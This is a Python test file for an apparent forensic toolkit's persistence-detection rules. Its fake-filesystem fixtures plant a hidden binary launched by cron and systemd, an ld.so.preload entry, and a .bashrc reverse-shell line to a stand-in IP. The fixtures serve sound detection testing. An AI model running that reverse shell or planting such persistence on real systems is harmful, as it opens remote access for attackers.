"""What a system starts by itself."""

from __future__ import annotations

from collections.abc import Callable, Iterable

from forensic_toolkit.filesystems.tree import Tree
from forensic_toolkit.results import Finding
from forensic_toolkit.rules import file_rules, persistence_rules
from tests.toolkit.fake_tree import Builder

Rule = Callable[[Tree], Iterable[Finding]]


def found(rule: Rule, builder: Builder) -> list[tuple[str, str, str | None]]:
    """Source, severity and technique of what a rule finds."""
    return [(finding.source, finding.severity, finding.technique) for finding in rule(builder.tree())]


def test_cron_and_units() -> None:
    builder = Builder().add("/usr/local/lib/.d/run", b"\x7fELF", mode=0o755)
    builder.add("/etc/cron.d/x", b"# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/lib/.d/run >/dev/null\n")
    builder.add("/etc/systemd/system/x.service", b"[Service]\nExecStart=-/usr/local/lib/.d/run a\n")
    builder.add("/etc/systemd/system/multi-user.target.wants/x.service", link="/etc/systemd/system/x.service")
    assert found(persistence_rules.cron, builder) == [("/etc/cron.d/x", "high", "T1053.003")]
    assert found(persistence_rules.units, builder) == [("/etc/systemd/system/x.service", "high", "T1543.002")]


def test_start_files() -> None:
    builder = Builder().add("/home/a/.bashrc", b"alias x=y\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1 &\n")
    assert found(persistence_rules.start_files, builder) == [("/home/a/.bashrc", "critical", "T1546.004")]
    builder = Builder().add("/etc/ld.so.preload", b"/lib/x.so\n")
    assert found(file_rules.library_preload, builder) == [("/etc/ld.so.preload", "critical", "T1574.006")]
